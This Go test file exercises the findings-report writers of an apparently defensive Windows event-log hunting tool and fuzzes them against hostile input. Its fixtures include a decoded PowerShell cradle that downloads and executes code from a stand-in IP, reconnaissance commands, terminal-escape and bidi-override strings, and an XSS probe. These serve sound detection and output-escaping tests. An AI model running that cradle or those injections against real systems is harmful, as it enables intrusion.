package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/evtxhunt/evtxhunt/analyzer/event"
	"github.com/evtxhunt/evtxhunt/analyzer/findings"
	"github.com/evtxhunt/evtxhunt/analyzer/sessions"
	"github.com/evtxhunt/evtxhunt/detections/sigma"
)

// sampleFindings are three findings in two host/user groups, grouped as
// the table expects, with full context, hostile text, a record read from
// two files and a long command line.
func sampleFindings() []findings.Finding {
	evs := sampleEvents()
	t0 := evs[0].Timestamp
	ctx := func(d time.Duration, pid uint64, image, cmd string) findings.ContextEvent {
		return findings.ContextEvent{Timestamp: t0.Add(d), EventID: 4688, EventRecordID: 900 + pid, ProcessId: pid,
			ParentProcessId: 0x4d2, Image: image, CommandLine: cmd, User: `CORP\alice`, LogonId: "0x3e7", SourceFile: "logs/Security.evtx"}
	}
	a := findings.Finding{
		ID: "1f2e3d4c5b6a7988", RuleID: "6f0c3a52-0c55-4a8e-9d1b-1f3a0c9d2e11", Title: "Formula in a command line",
		Level: sigma.High, Tags: []string{"attack.execution", "attack.t1059.003"},
		Description: "A command line that a spreadsheet would run.", RuleSource: "builtin:execution/formula.yml:1",
		Event: evs[0], Sources: []string{"logs/Security.evtx", "backup/Security (copy).evtx"},
		Context: findings.Context{
			Before: []findings.ContextEvent{ctx(-2*time.Minute, 100, `C:\Windows\System32\net.exe`, "net user")},
			After: []findings.ContextEvent{ctx(time.Minute, 200, `C:\Windows\System32\whoami.exe`, "whoami /all"),
				ctx(24*time.Hour, 204, `C:\Windows\System32\cmd.exe`, "cmd /c "+strings.Repeat("x", 150))},
			Ancestry: []findings.ContextEvent{ctx(-time.Hour, 0x4d2, `C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`),
				{Unknown: true, ProcessId: 600, Image: `C:\Windows\System32\userinit.exe`}},
			Children:     []findings.ContextEvent{ctx(time.Second, 300, `C:\Windows\System32\conhost.exe`, `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`)},
			MoreChildren: 2,
		},
	}
	a.Records = []findings.RecordRef{{Channel: "Security", EventRecordID: 1001, SourceFile: "logs/Security.evtx"},
		{Channel: "Microsoft-Windows-Sysmon/Operational", EventRecordID: 5001, SourceFile: "logs/Sysmon.evtx"}}
	a.Session = &sessions.Session{LogonId: "0x3e7", User: `CORP\alice`, LogonType: 10, LogonTypeName: "RemoteInteractive",
		IpAddress: "198.51.100.23", IpPort: "51234", WorkstationName: "DESKTOP-X9", AuthenticationPackageName: "Negotiate",
		LogonProcessName: "User32", LogonTime: t0.Add(-time.Hour), LogoffTime: t0.Add(time.Hour), Elevated: true,
		Privileges: []string{"SeDebugPrivilege"}, EventRecordIDs: []uint64{900, 901, 902}, Known: true,
		ExplicitCredentials: []sessions.Record{{Timestamp: t0.Add(-time.Minute), EventID: 4648, EventRecordID: 902,
			TargetUser: `CORP\admin`, TargetServerName: "dc01", ProcessName: `C:\Windows\System32\runas.exe`}}}
	a.Event.ParentCommandLine = `C:\Windows\Explorer.EXE`
	a.Event.Has = a.Event.Has.With(event.FieldParentCommandLine)
	mustSetRecordKey(&a, "0123456789abcdef0011223344556677")
	b := a
	b.ID, b.RuleID, b.Title, b.Level, b.Tags = "2a3b4c5d6e7f8091", "0b5e6c1e-6f55-4b39-a8a0-5d2b9d3c7a10", "Long command line", sigma.Medium, nil
	b.Event.CommandLine = "powershell.exe -NoProfile -EncodedCommand " + strings.Repeat("SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", 12)
	b.Decoded = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"
	b.Sources = []string{"logs/Security.evtx"}
	c := findings.Finding{
		ID: "3c4d5e6f708192a3", RuleID: "7c1d2e3f-4a5b-4c6d-8e9f-0a1b2c3d4e5f", Title: "Bidirectional override in an image name",
		Level: sigma.Critical, Tags: []string{"attack.defense_evasion", "attack.t1036.002"}, RuleSource: "rules/rlo.yml:3",
		Reason: "the image name holds U+202E", Event: evs[1], Sources: []string{"logs/Sysmon.evtx"},
		Context: findings.Context{Ancestry: []findings.ContextEvent{{Unknown: true, ProcessId: 4000}}},
	}
	// A finding on a record that is not a process creation: a service
	// installed by alice, with hostile text in its payload.
	g := &event.Event{
		System: event.System{Timestamp: t0.Add(30 * time.Second), Computer: "WS01.corp.local", Channel: "System",
			Provider: "Service Control Manager", EventID: 7045, EventRecordID: 5150, Level: 4, ProcessID: 636,
			UserID: "S-1-5-21-1-2-3-1104", Has: event.SystemSet(0).With(event.SysLevel).With(event.SysProcessID).With(event.SysUserID)},
		Kind: event.EventData,
		Items: []event.Item{{Name: "SubjectUserName", Value: "alice"}, {Name: "SubjectDomainName", Value: "CORP"}, {Name: "ServiceName", Value: "updater\x1b[2J"}, {Name: "ImagePath", Value: `cmd.exe /c echo x > \\.\pipe\updater`},
			{Name: "ServiceType", Value: "user mode service"}, {Name: "StartType", Value: "demand start"}, {Name: "AccountName", Value: "LocalSystem"}},
		SourceFile: "logs/System.evtx",
	}
	d := findings.Finding{
		ID: "4d5e6f708192a3b4", RuleID: "5b6c7d8e-9f01-4a2b-8c3d-4e5f60718293", Title: "Service runs cmd into a named pipe",
		Level: sigma.High, Tags: []string{"attack.privilege_escalation", "attack.t1543.003"}, RuleSource: "builtin:services/pipe.yml:1",
		Event:   findings.IdentityOf(g),
		General: g, Sources: []string{"logs/System.evtx"},
		Context: findings.Context{Before: []findings.ContextEvent{ctx(20*time.Second, 400, `C:\Windows\System32\sc.exe`, "sc create updater")}},
	}
	mustSetRecordKey(&c, "fedcba9876543210ffeeddccbbaa9988")
	mustSetRecordKey(&d, "0123456789abcdef0123456789abcdef")
	return []findings.Finding{a, b, d, c}
}

func mustSetRecordKey(f *findings.Finding, key string) {
	if err := f.SetRecordKey(key); err != nil {
		panic(err) // a typo in the fixture
	}
}

func TestWriteFindingsGolden(t *testing.T) {
	for _, tt := range []struct {
		format Format
		opts   Options
		name   string
	}{
		{Table, Options{}, "findings.table"},
		{Table, Options{Full: true, Color: true}, "findings-full-color.table"},
		{Table, Options{Width: 80}, "findings-80.table"},
		{CSV, Options{}, "findings.csv"},
		{JSON, Options{}, "findings.json"},
		{JSONL, Options{}, "findings.jsonl"},
		{HTML, Options{}, "findings.html"},
	} {
		var buf bytes.Buffer
		if err := WriteFindings(&buf, tt.format, sampleFindings(), tt.opts); err != nil {
			t.Fatal(err)
		}
		golden(t, tt.name, buf.Bytes())
	}
	var buf bytes.Buffer
	if err := WriteContextCSV(&buf, findings.List(sampleFindings()), false); err != nil {
		t.Fatal(err)
	}
	golden(t, "findings-context.csv", buf.Bytes())
}

func TestWriteFindingsEmpty(t *testing.T) {
	for _, f := range []Format{Table, CSV, JSON, JSONL, HTML} {
		var buf bytes.Buffer
		if err := WriteFindings(&buf, f, nil, Options{}); err != nil {
			t.Fatal(err)
		}
		golden(t, "findings-empty."+string(f), buf.Bytes())
	}
}

// TestFindingsTableWidth: without --full no line is wider than the
// terminal, and nothing from the evidence reaches it raw.
func TestFindingsTableWidth(t *testing.T) {
	for _, width := range []int{80, 120, 200} {
		var buf bytes.Buffer
		if err := WriteFindings(&buf, Table, sampleFindings(), Options{Width: width}); err != nil {
			t.Fatal(err)
		}
		for i, line := range strings.Split(buf.String(), "\n") {
			if n := len([]rune(line)); n > width {
				t.Errorf("width %d, line %d has %d runes: %q", width, i+1, n, line)
			}
			if strings.ContainsAny(line, "\x1b\u202e") {
				t.Errorf("line %d holds a raw escape or bidi control: %q", i+1, line)
			}
		}
	}
}

// TestFindingsJSONShape: every JSONL line is an object Timesketch takes
// as it is, with the context parts.
func TestFindingsJSONShape(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteFindings(&buf, JSONL, sampleFindings(), Options{}); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	if len(lines) != 4 {
		t.Fatalf("%d lines", len(lines))
	}
	for i, line := range lines {
		var obj struct {
			Message, Datetime string
			TimestampDesc     string `json:"timestamp_desc"`
			Context           map[string]json.RawMessage
			Event             json.RawMessage
		}
		if err := json.Unmarshal([]byte(line), &obj); err != nil {
			t.Fatalf("line %d: %v", i+1, err)
		}
		if obj.Message == "" || obj.TimestampDesc == "" {
			t.Errorf("line %d lacks message or timestamp_desc", i+1)
		}
		if _, err := time.Parse(time.RFC3339Nano, obj.Datetime); err != nil {
			t.Errorf("line %d: datetime %q: %v", i+1, obj.Datetime, err)
		}
		for _, part := range []string{"before", "after", "ancestry", "children"} {
			if _, ok := obj.Context[part]; !ok {
				t.Errorf("line %d: context has no %q", i+1, part)
			}
		}
		// A process event has the normalized process shape; any other
		// record its System values and EventData.
		var general struct {
			EventID   uint32
			EventData map[string]string
		}
		if err := json.Unmarshal(obj.Event, &general); err != nil {
			t.Fatalf("line %d: event: %v", i+1, err)
		}
		if general.EventData != nil {
			if general.EventID != 7045 || general.EventData["ServiceName"] == "" || obj.TimestampDesc != "System 7045" {
				t.Errorf("line %d: general event %+v, timestamp_desc %q", i+1, general, obj.TimestampDesc)
			}
			continue
		}
		var p event.Process
		if err := json.Unmarshal(obj.Event, &p); err != nil {
			t.Errorf("line %d: process event: %v", i+1, err)
		}
	}
}

func TestContextCSVKeys(t *testing.T) {
	var buf bytes.Buffer
	fs := sampleFindings()
	if err := WriteContextCSV(&buf, findings.List(fs), true); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := 1 // header
	for i := range fs {
		want += len(fs[i].Context.Rows()) + len(sessionRows(&fs[i]))
	}
	if len(sessionRows(&fs[0])) != 2 {
		t.Errorf("the sample session's logon and explicit credentials give %d session rows, want 2", len(sessionRows(&fs[0])))
	}
	if len(rows) != want {
		t.Fatalf("%d rows, want %d", len(rows), want)
	}
	ids := map[string]bool{}
	for _, f := range fs {
		ids[f.ID] = true
	}
	for _, r := range rows[1:] {
		if !ids[r[0]] || len(r) != len(ContextColumns) {
			t.Errorf("row %q", r)
		}
	}
}

// FuzzFindingsWriters: attacker-controlled text in any field never makes a
// writer fail or panic, never reaches the table raw, and never widens a
// table line past the width.
func FuzzFindingsWriters(f *testing.F) {
	s := sampleFindings()
	f.Add(s[0].Event.CommandLine, s[1].Event.Image, s[0].Event.User, s[0].Title)
	f.Add("\x1b]0;title\x07\u202e\u2066", "C:\\\xff\xfe.exe", "", "<script>alert(1)</script>")
	f.Fuzz(func(t *testing.T, cmd, image, user, title string) {
		fs := sampleFindings()
		for i := range fs {
			fs[i].Event.CommandLine, fs[i].Event.Image, fs[i].Event.User, fs[i].Title = cmd, image, user, title
			fs[i].Context.Before = append(fs[i].Context.Before, findings.ContextEvent{Image: image, CommandLine: cmd, User: user})
		}
		for _, format := range []Format{Table, CSV, JSON, JSONL, HTML} {
			var buf bytes.Buffer
			if err := WriteFindings(&buf, format, fs, Options{Width: 80}); err != nil {
				t.Fatalf("%s: %v", format, err)
			}
			if format == Table {
				for _, line := range strings.Split(buf.String(), "\n") {
					if strings.ContainsAny(line, "\x1b\u202e\u2066") || len([]rune(line)) > 80 {
						t.Fatalf("table line unsafe or too wide: %q", line)
					}
				}
			}
			if format == HTML && strings.Contains(buf.String(), "<script>alert") {
				t.Fatal("HTML output holds the text unescaped")
			}
		}
	})
}
